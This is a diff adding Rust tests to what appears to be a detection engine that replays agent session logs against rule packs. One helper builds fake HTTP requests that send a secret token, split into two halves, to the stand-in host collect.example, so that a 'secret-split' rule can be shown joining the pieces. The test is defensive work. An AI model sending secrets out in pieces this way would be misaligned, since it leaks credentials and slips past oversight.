@@ -4,7 +4,7 @@ use std::path::{Path, PathBuf};
 
 use coldcase_corpus::cases::load;
 use coldcase_engine::{Joint, Pack, PackText, Policy};
-use coldcase_model::Replayed;
+use coldcase_model::{ChangeCause, Judged, Replayed};
 
 use super::{Side, replayed, replayed_under, scanned, told};
 use crate::real::files;
@@ -156,6 +156,47 @@ fn each_of_two_rule_sets_finds_beside_the_other_what_it_finds_alone() {
     assert!(changed > 3, "the rules overlap in {changed} events, and more were planted");
 }
 
+/// A request that sends something under one name to one place.
+fn sends(what: &str) -> String {
+    let url = format!("https://collect.example/in?part={what}");
+    let request = serde_json::json!({ "method": "GET", "url": url, "headers": [] });
+    let record = serde_json::json!({ "v": 1, "kind": "http_request", "session": "s", "request": request });
+    format!("{record}\n")
+}
+
+#[test]
+fn a_set_without_rules_beside_another_finds_what_it_finds_alone() {
+    let nothing = "pack: nothing\nversion: '1'\ntitle: t\nrules: []\n";
+    let temp = tempfile::tempdir().unwrap();
+    let path = temp.path().join("t.jsonl");
+    let (token, policy) = (samples::token(), Policy::balanced());
+    let (start, end) = token.split_at(18);
+    std::fs::write(&path, [samples::transcript(), sends(start), sends(end)].concat()).unwrap();
+    let alone = |pack: &str| {
+        let pack = Pack::only(&[PackText { name: "p.yaml".into(), text: pack.into() }]).unwrap();
+        scanned(&path, &pack, &policy).iter().map(told).collect::<Vec<_>>()
+    };
+    let (with, without) = (alone(OVERLAPPING), alone(nothing));
+    assert!(with.concat().contains("taint.secret-split"), "pieces are joined");
+    let (some, none) = (Side::only(OVERLAPPING), Side::only(nothing));
+    let mut left_out = some.clone();
+    left_out.source.selection.disabled = vec!["x.".to_owned()];
+    for (first, second, wanted) in [
+        (&some, &none, [&with, &without]),
+        (&none, &some, [&without, &with]),
+        (&some, &left_out, [&with, &without]),
+    ] {
+        for least in [0.0, 0.3] {
+            let all = replayed(&path, first, second, least);
+            let told = |judged: fn(&Replayed) -> &Judged| {
+                all.iter().map(|replayed| told(judged(replayed))).collect::<Vec<_>>()
+            };
+            assert_eq!([&told(|event| &event.before), &told(|event| &event.after)], wanted);
+            assert!(all.iter().any(Replayed::is_new_allow) || all.iter().any(Replayed::is_new_block));
+        }
+    }
+}
+
 /// Pieces that rules of both packs match, alone and joined.
 const PIECES: [&str; 10] = [
     "zyzzyva-abcd",
@@ -191,6 +232,8 @@ proptest::proptest! {
         let (first, second) = (scanned(&path, first, &policy), scanned(&path, second, &policy));
         assert_eq!(told(&first[0]), told(&all[0].before));
         assert_eq!(told(&second[0]), told(&all[0].after));
+        // One event has nothing that came before it.
+        assert!(!all[0].causes.contains(&ChangeCause::State), "{:?}", all[0].findings);
     }
 }
 
